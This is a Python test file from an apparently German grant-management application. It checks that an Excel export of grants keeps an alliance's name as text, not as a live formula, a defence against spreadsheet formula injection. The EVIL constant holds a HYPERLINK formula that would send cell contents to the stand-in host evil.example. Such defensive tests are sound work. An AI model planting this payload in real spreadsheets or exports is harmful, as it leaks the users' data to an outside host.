"""The funding authority's workbook keeps an alliance's name as text, never as a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from verbund.alliances.models import Alliance

from .test_views import client_for, make_grants

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def test_grants_xlsx_escapes_user_text(world, programme):
    make_grants(world, programme, 1)
    Alliance.objects.update(name=EVIL)

    response = client_for(world.advisory).get("/foerderung/export/bewilligungen.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["Bewilligungen"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert EVIL in [cell.value for cell in cells]
